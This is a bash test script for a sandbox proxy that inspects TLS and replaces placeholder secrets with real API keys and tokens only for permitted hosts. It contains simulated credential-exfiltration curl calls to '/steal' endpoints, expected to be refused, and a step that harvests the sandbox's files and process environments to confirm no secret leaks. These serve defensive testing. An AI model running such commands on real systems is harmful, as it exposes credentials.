#!/usr/bin/env bash
# HTTPS the way agent SDKs call it: TLS inspection with the per-sandbox CA and
# placeholder secrets, from inside real sandboxes with real clients (curl,
# python urllib and requests, node https, git over HTTPS) against real TLS
# origins on loopback, whose CA is made here (docs/proxy.md, "TLS inspection").
. "$(dirname "$0")/lib.sh"
need_root
use_fixtures openssl dnsmasq curl python3 node git nginx
python3 -c 'import requests' 2>/dev/null || skip_all "python3-requests not installed"

o=$(free_port)    # the TLS origin (python, git http-backend)
wn=$(free_port)   # a certificate for another name
ss=$(free_port)   # a self-signed certificate
http=$(free_port) # a plain http origin (nginx)
dns=$(free_port)
mkdir -p "$T/ca" "$T/pub" "$T/out" "$T/git"
chmod 777 "$T/out"

# The origins' CA: the test's own, trusted by the proxy through upstream_ca.
mkcert() { # mkcert NAME SAN...: $T/ca/NAME.{key,pem} signed by the test CA
	local n=$1 san
	shift
	san=$(printf 'DNS:%s,' "$@")
	openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj "/CN=$1" \
		-keyout "$T/ca/$n.key" -out "$T/ca/$n.csr" 2>/dev/null
	printf 'subjectAltName=%s\n' "${san%,}" >"$T/ca/$n.ext"
	openssl x509 -req -in "$T/ca/$n.csr" -CA "$T/ca/ca.pem" -CAkey "$T/ca/ca.key" \
		-CAcreateserial -days 1 -extfile "$T/ca/$n.ext" -out "$T/ca/$n.pem" 2>/dev/null
}
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 1 \
	-subj "/CN=sandcap https test CA" -keyout "$T/ca/ca.key" -out "$T/ca/ca.pem" 2>/dev/null
mkcert origin api.inspect.test other.inspect.test git.inspect.test plain.test \
	paths.inspect.test lim.inspect.test
mkcert wrong somewhere.else.test
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 1 \
	-subj "/CN=selfsigned.inspect.test" -addext "subjectAltName=DNS:selfsigned.inspect.test" \
	-keyout "$T/ca/self.key" -out "$T/ca/self.pem" 2>/dev/null
cp "$T/ca/ca.pem" "$T/pub/origin-ca.pem"
chmod 755 "$T/ca" && chmod 644 "$T/ca"/*

# A bare repository behind git http-backend; only the real token may read it.
GH_REAL="ghs_real-token-$$-$RANDOM"
git init -q --bare "$T/git/repo.git"
git -C "$T/git/repo.git" config http.receivepack false
git init -q "$T/git/work"
echo "cloned through the inspecting proxy" >"$T/git/work/README"
git -C "$T/git/work" add README
git -C "$T/git/work" -c user.name=t -c user.email=t@t commit -qm init
git -C "$T/git/work" push -q "$T/git/repo.git" HEAD:refs/heads/main
git -C "$T/git/repo.git" symbolic-ref HEAD refs/heads/main

python3 "$(dirname "$0")/../helpers/tls-origin.py" "$o" "$T/ca/origin.pem" "$T/ca/origin.key" \
	"$T/origin.log" "$T/git" "$GH_REAL" &
PIDS+=($!)
openssl s_server -quiet -accept "127.0.0.1:$wn" -cert "$T/ca/wrong.pem" -key "$T/ca/wrong.key" \
	-www >/dev/null 2>&1 &
PIDS+=($!)
openssl s_server -quiet -accept "127.0.0.1:$ss" -cert "$T/ca/self.pem" -key "$T/ca/self.key" \
	-www >/dev/null 2>&1 &
PIDS+=($!)
start_origin "$http" || skip_all "origin did not start"
start_dns "$dns" inspect.test=127.0.0.1 plain.test=127.0.0.1 plainhttp.test=127.0.0.1 \
	denied.test=127.0.0.1
for _ in $(seq 100); do
	(echo >/dev/tcp/127.0.0.1/"$o") 2>/dev/null && break
	sleep 0.05
done

# The real values: read by the supervisor only (an env var and a file
# outside every grant).
export REAL_OPENAI="sk-real-openai-$$-$RANDOM$RANDOM"
export REAL_INJECT="inject-$$-$RANDOM"
export REAL_LIM="lim-real-$$-$RANDOM$RANDOM"
printf '%s\n' "$GH_REAL" >"$T/gh-token"
chmod 600 "$T/gh-token"

policy https "{\"version\": 1,
  \"fs\": {\"grants\": [{\"path\": \"$T/pub\", \"mode\": \"ro\", \"at\": \"/pub\"},
                      {\"path\": \"$T/out\", \"mode\": \"rw\", \"at\": \"/out\"}]},
  \"net\": {\"egress\": [
      {\"host\": \"api.inspect.test\", \"ports\": [$o]},
      {\"host\": \"git.inspect.test\", \"ports\": [$o], \"methods\": [\"GET\", \"POST\"]},
      {\"host\": \"other.inspect.test\", \"ports\": [$o], \"inspect\": true},
      {\"host\": \"wrong.inspect.test\", \"ports\": [$wn], \"inspect\": true},
      {\"host\": \"selfsigned.inspect.test\", \"ports\": [$ss], \"inspect\": true},
      {\"host\": \"plain.test\", \"ports\": [$o]},
      {\"host\": \"plainhttp.test\", \"ports\": [$http]}],
    \"allow_private\": [\"127.0.0.1/32\"], \"dns\": \"127.0.0.1:$dns\",
    \"upstream_ca\": \"$T/ca/ca.pem\",
    \"credentials\": [
      {\"host\": \"api.inspect.test\", \"placeholder_env\": \"OPENAI_API_KEY\",
       \"value_env\": \"REAL_OPENAI\", \"in\": [\"header\", \"query\"]},
      {\"host\": \"git.inspect.test\", \"placeholder_env\": \"GITHUB_TOKEN\",
       \"value_file\": \"$T/gh-token\"},
      {\"host\": \"other.inspect.test\", \"header\": \"X-Injected\",
       \"value_env\": \"REAL_INJECT\", \"format\": \"Token %s\"}]}}"
run_https() { "$SANDCAP" run --quiet --audit "$T/audit-$1.jsonl" --policy "$T/https.json" -- "${@:2}"; }
A="https://api.inspect.test:$o"
origin_saw() { grep -F "$1" "$T/origin.log" >/dev/null; }

cat >"$T/pub/node-get.js" <<'JS'
// node-get.js HOST PORT PATH: an https GET through the proxy's CONNECT,
// trusting what NODE_EXTRA_CA_CERTS adds (node reads no proxy variables).
const http = require('http'), https = require('https');
const [host, port, path] = process.argv.slice(2);
http.request({host: '127.0.0.1', port: 3128, method: 'CONNECT', path: `${host}:${port}`,
              headers: {host: `${host}:${port}`}})
  .on('connect', (res, socket) => {
    if (res.statusCode !== 200) { console.log('CONNECT', res.statusCode); return; }
    https.get({host, port, path, socket, agent: false,
               headers: {authorization: 'Bearer ' + (process.env.OPENAI_API_KEY || '')}}, r => {
      let d = ''; r.on('data', c => d += c); r.on('end', () => console.log(d.trim()));
    }).on('error', e => console.log('ERR', e.message));
  }).on('error', e => console.log('ERR', e.message)).end();
JS
chmod 644 "$T/pub/node-get.js"

# --- the placeholder reaches its host as the real value, over TLS from every client
out=$(run_https clients sh -c '
case "$OPENAI_API_KEY" in sk-proj-*) echo shaped;; *) echo "not shaped: $OPENAI_API_KEY";; esac
curl -sS "'"$A"'/v1/curl?key=$OPENAI_API_KEY" -H "Authorization: Bearer $OPENAI_API_KEY"
curl -sS "'"$A"'/v1/ka1" "'"$A"'/v1/ka2" -H "x-api-key: $OPENAI_API_KEY"
python3 -c "
import os, urllib.request, requests
h = {\"Authorization\": \"Bearer \" + os.environ[\"OPENAI_API_KEY\"]}
print(urllib.request.urlopen(urllib.request.Request(\"'"$A"'/v1/urllib\", headers=h)).read().decode().strip())
print(requests.post(\"'"$A"'/v1/requests\", headers=h, json={\"q\": 1}).text.strip())"
node /pub/node-get.js api.inspect.test '"$o"' /v1/node
curl -sS "https://other.inspect.test:'"$o"'/injected" -H "X-Injected: mine"
' 2>&1)
expect_eq "the agent's variable holds a key-shaped placeholder" "$(sed -n 1p <<<"$out")" shaped
expect_eq "curl, keep-alive, urllib, requests and node https all get through" "$(sed -n '2,$p' <<<"$out")" \
	'{"ok": true, "path": "/v1/curl"}
{"ok": true, "path": "/v1/ka1"}
{"ok": true, "path": "/v1/ka2"}
{"ok": true, "path": "/v1/urllib"}
{"ok": true, "path": "/v1/requests"}
{"ok": true, "path": "/v1/node"}
{"ok": true, "path": "/injected"}'
for p in curl ka1 ka2 urllib requests node; do
	line=$(grep -F "\"/v1/$p" "$T/origin.log")
	case $line in
	*"$REAL_OPENAI"*) ok "the origin got the real value from $p" ;;
	*) not_ok "the origin got the real value from $p ($line)" ;;
	esac
done
check "... in the query string too (in: [header, query])" origin_saw "/v1/curl?key=$REAL_OPENAI"
check "... and never the placeholder" bash -c "! grep -q 'sk-proj-' '$T/origin.log'"
check "a header credential of an inspected host is set in its decrypted requests" \
	grep -q "\"/injected\".*\"x-injected\": \"Token $REAL_INJECT\"" "$T/origin.log"
check "every decrypted request is one net.request record, marked inspected" \
	bash -c "[ \$(grep -c '\"event\":\"net.request\".*\"inspected\":true.*\"status\":200' '$T/audit-clients.jsonl') = 7 ]"
check "... with method and path" grep -q '"event":"net.request".*"method":"POST".*"path":"/v1/requests"' "$T/audit-clients.jsonl"
check "... and the SHA-256 of the decrypted body the agent received" \
	grep -Eq '"event":"net.request".*"body_bytes":[1-9][0-9]*,"body_sha256":"[0-9a-f]{64}".*"inspected":true.*"path":"/v1/node"' "$T/audit-clients.jsonl"

# --- clients that ignore the proxy variables: the sandbox resolver's address, the
# transparent listener, then the same inspection and the same swap
out=$(run_https transparent sh -c '
curl -sS --noproxy "*" "'"$A"'/v1/transparent-curl" -H "Authorization: Bearer $OPENAI_API_KEY"
node -e "fetch(\"'"$A"'/v1/transparent-fetch\", {headers: {authorization: \"Bearer \" + process.env.OPENAI_API_KEY}}).then(r => r.text()).then(t => console.log(t.trim()), e => console.log(\"ERR\", e.cause || e))"
' 2>&1)
expect_eq "curl --noproxy and node fetch reach an inspected host transparently" "$out" \
	'{"ok": true, "path": "/v1/transparent-curl"}
{"ok": true, "path": "/v1/transparent-fetch"}'
for p in transparent-curl transparent-fetch; do
	line=$(grep -F "\"/v1/$p" "$T/origin.log")
	case $line in
	*"$REAL_OPENAI"*) ok "... the origin got the real value from $p" ;;
	*) not_ok "... the origin got the real value from $p ($line)" ;;
	esac
done
check "... each decrypted request is a net.request record, marked inspected" \
	bash -c "[ \$(grep -c '\"event\":\"net.request\".*\"inspected\":true.*\"status\":200' '$T/audit-transparent.jsonl') = 2 ]"

# --- git over HTTPS with a placeholder token
out=$(run_https git sh -c 'cd /tmp && git -c "http.extraHeader=Authorization: Bearer $GITHUB_TOKEN" \
	clone -q "https://git.inspect.test:'"$o"'/git/repo.git" r && cat r/README' 2>&1)
expect_eq "git clone over HTTPS with a placeholder token" "$out" "cloned through the inspecting proxy"
check "... the git origin got the real token" origin_saw "Bearer $GH_REAL"

# --- a placeholder anywhere else is refused and recorded
out=$(run_https leak sh -c '
curl -sS "https://other.inspect.test:'"$o"'/steal" -H "X-Key: $OPENAI_API_KEY"
curl -sS "http://denied.test/steal?k=$GITHUB_TOKEN"
curl -sS "http://plainhttp.test:'"$http"'/data.json" -H "Authorization: Bearer $OPENAI_API_KEY"
curl -sS -p --max-time 5 "http://plain.test:'"$o"'/tunnelled" -H "Authorization: Bearer $OPENAI_API_KEY"; echo "tunnel rc=$?"
' 2>&1)
expect_match "to another allowed (inspected) host: 403" "$(sed -n 1p <<<"$out")" \
	'403 Forbidden: the request carries the placeholder of OPENAI_API_KEY, which is only for api.inspect.test'
expect_match "to a denied host: 403" "$(sed -n 2p <<<"$out")" 'placeholder of GITHUB_TOKEN'
expect_match "in a plain http:// request to an allowed host: 403" "$(sed -n 3p <<<"$out")" 'placeholder of OPENAI_API_KEY'
expect_match "in cleartext at the start of a plain tunnel: the tunnel is closed" "$(sed -n '4,$p' <<<"$out")" 'tunnel rc=(52|56)'
check "four credential-exfiltration records" \
	bash -c "[ \$(grep -c '\"event\":\"net.denied\".*\"reason\":\"credential-exfiltration\"' '$T/audit-leak.jsonl') = 4 ]"
check "nothing reached the other origins" bash -c "! grep -q steal '$T/origin.log' && ! grep -q data.json '$T/nginx/access.log' && ! grep -q tunnelled '$T/origin.log'"

# --- upstream TLS errors, pinning clients, SNI, plain tunnels
out=$(run_https tls sh -c '
curl -sS "https://wrong.inspect.test:'"$wn"'/"
curl -sS "https://selfsigned.inspect.test:'"$ss"'/"
curl -sS --cacert /pub/origin-ca.pem "https://other.inspect.test:'"$o"'/pinned"; echo "pinned rc=$?"
echo | openssl s_client -proxy 127.0.0.1:3128 -connect other.inspect.test:'"$o"' \
	-servername api.inspect.test >/dev/null 2>&1; echo "sni rc=$?"
curl -sS --http2 -w "%{http_version}\n" "https://other.inspect.test:'"$o"'/h2"
curl -sS --cacert /pub/origin-ca.pem "https://plain.test:'"$o"'/plain"
' 2>&1)
expect_match "upstream certificate for another name: 502 with a clear body" "$(sed -n 1p <<<"$out")" \
	"502 Bad Gateway: upstream TLS: the origin's certificate is not accepted: hostname mismatch"
expect_match "self-signed upstream: 502 with a clear body" "$(sed -n 2p <<<"$out")" \
	"502 Bad Gateway: upstream TLS: the origin's certificate is not accepted: self-signed certificate"
check "... both recorded as upstream-tls" \
	bash -c "[ \$(grep -c '\"event\":\"net.denied\".*\"reason\":\"upstream-tls\"' '$T/audit-tls.jsonl') = 2 ]"
expect_match "a client that pins another CA fails" "$(grep 'pinned rc' <<<"$out")" 'pinned rc=60'
check "... and is recorded as client-rejected-ca" grep -q '"event":"net.denied".*"detail":"the client refused the certificate of the sandbox CA (TLS alert unknown CA).*"reason":"client-rejected-ca"' "$T/audit-tls.jsonl"
check "a TLS server name other than the CONNECT host is refused: sni-mismatch" grep -q '"reason":"sni-mismatch"' "$T/audit-tls.jsonl"
expect_match "a client asking for HTTP/2 gets it (ALPN h2; test-h2.sh tests it further)" \
	"$(grep -A1 '"/h2"' <<<"$out" | tr '\n' ' ')" '"/h2"\} 2'
expect_match "a host not inspected keeps a plain tunnel (the origin's own certificate)" "$(sed -n '$p' <<<"$out")" '"path": "/plain"'
check "... recorded as a tunnel, not decrypted" grep -q '"event":"net.tunnel.close".*"host":"plain.test"' "$T/audit-tls.jsonl"

# --- what the sandbox can see: the bundle, never a secret nor the CA key
"$SANDCAP" run --quiet --policy "$T/https.json" -- sh -c '
sleep 1.5
grep -c "BEGIN CERTIFICATE" /etc/ssl/certs/ca-certificates.crt >/out/bundle-count
openssl crl2pkcs7 -nocrl -certfile /etc/ssl/certs/ca-certificates.crt | openssl pkcs7 -print_certs -noout |
	grep "subject=.*sandcap sandbox CA" >/out/bundle-ca
{ env; cat /proc/*/environ /proc/*/cmdline; find / \( -path /proc -o -path /sys -o -path /usr -o -path /out -o -path /dev \) -prune -o -type f -exec cat {} +
  cat /proc/self/mountinfo; ls -la /proc/*/fd/; } >/out/dump 2>/dev/null
ls -la /proc/*/fd/ 2>/dev/null | grep 'memfd:' >/out/memfds
true
' 2>&1 &
run_pid=$!
mem=""
for _ in $(seq 50); do
	mem=$(for f in /proc/"$run_pid"/fd/*; do [[ $(readlink "$f") == *sandcap-proxy-config* ]] && echo "$f"; done | head -1)
	[ -n "$mem" ] && break
	sleep 0.05
done
[ -n "$mem" ] && python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["ca_key"])' "$mem" >"$T/ca-key.pem" 2>/dev/null
wait "$run_pid"
host_count=$(grep -c "BEGIN CERTIFICATE" /etc/ssl/certs/ca-certificates.crt)
expect_eq "the sandbox's trust bundle is the host's CAs plus one" "$(cat "$T/out/bundle-count")" "$((host_count + 1))"
check "... the sandbox CA" test -s "$T/out/bundle-ca"
check "the host's bundle is unchanged" bash -c "! grep -q 'sandcap sandbox CA' /etc/ssl/certs/ca-certificates.crt"
check "the CA key was in the sealed configuration (the test could read it from the host)" grep -q "BEGIN PRIVATE KEY" "$T/ca-key.pem"
python3 - "$T/out/dump" "$T/ca-key.pem" "$REAL_OPENAI" "$GH_REAL" "$REAL_INJECT" >"$T/found" <<'PY'
import base64, sys
dump = open(sys.argv[1], "rb").read()
pem = open(sys.argv[2]).read().split("\n")
der = base64.b64decode("".join(l for l in pem if l and not l.startswith("-----")))
needles = {"CA key (DER)": der, "CA key (PEM body)": pem[1].encode(), "real OpenAI value": sys.argv[3].encode(),
           "real git token": sys.argv[4].encode(), "injected value": sys.argv[5].encode()}
print(len(dump), *[name for name, n in needles.items() if n in dump], sep="\n")
PY
expect_match "the sandbox read its whole fs, /proc environ and cmdline" "$(sed -n 1p "$T/found")" '^[0-9]{5,}$'
expect_eq "... and found neither the CA key nor a real secret" "$(sed -n '2,$p' "$T/found")" ""
expect_eq "... nor a memfd" "$(cat "$T/out/memfds")" ""
check "no audit log holds a real value (records keep what the agent sent)" \
	bash -c "! grep -l -e '$REAL_OPENAI' -e '$GH_REAL' -e '$REAL_INJECT' '$T'/audit-*.jsonl"

# --- a restarted worker serves with the same CA
"$SANDCAP" run --quiet --audit "$T/audit-restart.jsonl" --policy "$T/https.json" -- sh -c '
curl -sS "'"$A"'/v1/before" -H "Authorization: Bearer $OPENAI_API_KEY"
touch /out/before; while [ ! -e /out/killed ]; do sleep 0.05; done
curl -sS --retry 5 --retry-delay 1 --retry-connrefused "'"$A"'/v1/after" -H "Authorization: Bearer $OPENAI_API_KEY"
' >"$T/restart.out" 2>/dev/null &
run_pid=$!
for _ in $(seq 200); do [ -e "$T/out/before" ] && break; sleep 0.05; done
worker=$(pgrep -P "$run_pid" -f '^sandcap-proxy' || true)
[ -n "$worker" ] && kill -KILL "$worker"
touch "$T/out/killed"
wait "$run_pid"
expect_eq "after the worker was killed, its successor has the same CA" "$(cat "$T/restart.out")" \
	'{"ok": true, "path": "/v1/before"}
{"ok": true, "path": "/v1/after"}'
check "... and the restart is recorded" grep -q '"event":"proxy.exit"' "$T/audit-restart.jsonl"

# --- path rules and credential limits hold inside inspected tunnels
policy l7 "{\"version\": 1,
  \"net\": {\"egress\": [
      {\"host\": \"paths.inspect.test\", \"ports\": [$o], \"inspect\": true, \"paths\": [\"/v1/\"]},
      {\"host\": \"lim.inspect.test\", \"ports\": [$o]}],
    \"allow_private\": [\"127.0.0.1/32\"], \"dns\": \"127.0.0.1:$dns\",
    \"upstream_ca\": \"$T/ca/ca.pem\",
    \"credentials\": [
      {\"host\": \"lim.inspect.test\", \"name\": \"lim-key\", \"placeholder_env\": \"LIM_KEY\",
       \"value_env\": \"REAL_LIM\", \"max_requests\": 3}]}}"
P="https://paths.inspect.test:$o"
L="https://lim.inspect.test:$o"
out=$("$SANDCAP" run --quiet --audit "$T/audit-l7.jsonl" --policy "$T/l7.json" -- sh -c '
for u in /v1/models /admin /v1/../admin; do
	curl -sS --path-as-is -o /dev/null -w "%{http_code}\n" "'"$P"'$u"
done
curl -sS -o /dev/null -w "nokey %{http_code}\n" "'"$L"'/lim/nokey"
for i in 1 2 3 4; do
	curl -sS -o /dev/null -w "$i %{http_code}\n" "'"$L"'/lim/$i" -H "Authorization: Bearer $LIM_KEY"
done' 2>&1)
expect_eq "an inspected host's path rule: under the prefix passes, outside it and ../ out of it refused" \
	"$(sed -n 1,3p <<<"$out" | tr '\n' ' ')" "200 403 403 "
check "... refused after decryption as path-not-allowed" bash -c \
	"[ \$(grep -c '\"event\":\"net.denied\".*\"inspected\":true.*\"reason\":\"path-not-allowed\"' '$T/audit-l7.jsonl') = 2 ]"
check "... and the origin saw neither" bash -c "! grep -q admin '$T/origin.log'"
expect_eq "a credential with max_requests 3 on an inspected host: 3 pass, the 4th is 429" \
	"$(sed -n '4,$p' <<<"$out" | tr '\n' ' ')" "nokey 200 1 200 2 200 3 200 4 429 "
expect_eq "... the origin saw exactly 3 with the real value" "$(grep -c "Bearer $REAL_LIM" "$T/origin.log")" 3
check "... the refused one did not reach it; the one without the placeholder did, and did not count" \
	bash -c "! grep -q '/lim/4' '$T/origin.log' && grep -q '/lim/nokey' '$T/origin.log'"
check "... the refusal is credential-limit, naming the credential, inspected" \
	grep -q '"event":"net.denied".*"credential":"lim-key".*"inspected":true.*"reason":"credential-limit"' "$T/audit-l7.jsonl"
check "... each passed request's record names the credential and is inspected" bash -c \
	"[ \$(grep -c '\"event\":\"net.request\".*\"credential\":\"lim-key\".*\"inspected\":true.*\"status\":200' '$T/audit-l7.jsonl') = 3 ]"
check "... the request without the placeholder names none" bash -c \
	"grep '\"event\":\"net.request\".*/lim/nokey' '$T/audit-l7.jsonl' | grep -vq credential"
peer() { python3 -c 'import json,sys
for l in open(sys.argv[1]):
    r = json.loads(l)
    if r["path"] == sys.argv[2]: print(r["peer"]); break
else: print("no request for", sys.argv[2])' "$T/origin.log" "$1"; }
check "pooled upstreams: the 2nd and 3rd requests with the key reuse the connection of the 1st" \
	bash -c "[ '$(peer /lim/1)' = '$(peer /lim/2)' ] && [ '$(peer /lim/2)' = '$(peer /lim/3)' ]"
check "... but not the one of the request without a credential" test "$(peer /lim/nokey)" != "$(peer /lim/1)"

# --- pooled upstream connections: reused across client connections, never after Connection: close
out=$(run_https pool sh -c '
for p in a b close/c d; do curl -sS "'"$A"'/$p" -o /dev/null -w "%{http_code} "; done
curl -sS "'"$A"'/e" -H "Authorization: Bearer $OPENAI_API_KEY" -o /dev/null -w "%{http_code}"' 2>&1)
expect_eq "five inspected requests, each on its own client connection" "$out" "200 200 200 200 200"
check "... the 2nd and the 3rd went on the 1st's upstream connection" \
	bash -c "[ '$(peer /a)' = '$(peer /b)' ] && [ '$(peer /b)' = '$(peer /close/c)' ]"
check "... after the origin's Connection: close, a new one" test "$(peer /d)" != "$(peer /a)"
check "... a request with the credential does not take the one without" test "$(peer /e)" != "$(peer /d)"
check "... one net.request record each, as without pooling" \
	bash -c "[ \$(grep -c '\"event\":\"net.request\".*\"inspected\":true.*\"status\":200' '$T/audit-pool.jsonl') = 5 ]"

# --- policy errors name the key
policy bad1 '{"version": 1, "net": {"egress": [{"host": "a.test"}], "credentials": [{"host": "a.test", "value_env": "X"}]}}'
out=$("$SANDCAP" check --policy "$T/bad1.json" 2>&1)
expect_match "a credential with neither header nor placeholder_env is refused" "$out" 'credentials\[0\].*"header".*"placeholder_env"'
policy bad2 '{"version": 1, "net": {"egress": [{"host": "a.test"}], "credentials": [{"host": "a.test", "value_env": "X", "placeholder_env": "HTTPS_PROXY"}]}}'
out=$("$SANDCAP" check --policy "$T/bad2.json" 2>&1)
expect_match "a placeholder in a variable sandcap sets is refused" "$out" 'placeholder_env.*HTTPS_PROXY.*set by sandcap'
finish
